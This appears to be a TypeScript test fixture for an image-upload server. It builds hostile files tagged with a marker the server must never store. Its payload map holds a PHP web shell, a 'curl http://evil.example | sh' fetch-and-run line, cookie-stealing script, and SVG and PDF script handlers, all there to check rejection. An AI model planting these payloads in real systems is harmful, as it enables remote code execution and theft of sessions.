import { createRandom } from '../../../server/operations/demo/random.ts';

export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** 'refused': any error; 'too-large': IMAGE_TOO_LARGE; 'redrawn': stored as pixels; 'either': the decoder decides. */
  outcome: 'refused' | 'too-large' | 'redrawn' | 'either';
  /** The default is the name of a PNG. */
  filename?: string;
  /** The default is `image/png`. */
  type?: string;
}

/** The server must not store any 16 consecutive bytes of this text. */
export const HIDDEN_MARKER = marker();

function marker(): Buffer {
  const random = createRandom('uploads');
  const letters = Array.from({ length: 160 }, () => String.fromCharCode(random.between(65, 90)));
  return Buffer.from(`HOSTILE${letters.join('')}`);
}

export const addMarker = (text: string): Buffer => Buffer.concat([Buffer.from(text), HIDDEN_MARKER]);

/** Contents that a browser, a server or another program would run or open, by kind. */
export const HIDDEN_PAYLOADS: Record<string, Buffer> = {
  html: addMarker('<!doctype html><script>fetch("/api/auth/profile")</script>'),
  js: addMarker('/*\n*/=1;alert(document.cookie);//'),
  php: addMarker('<?php system($_GET["c"]); __halt_compiler();'),
  svg: addMarker('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
  zip: Buffer.concat([
    Buffer.from('504b0304140000000000', 'hex'),
    HIDDEN_MARKER,
    Buffer.from('504b0506', 'hex'),
  ]),
  pdf: addMarker('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n'),
  shell: addMarker('#!/bin/sh\ncurl http://evil.example | sh\n'),
  exe: Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), HIDDEN_MARKER]),
};
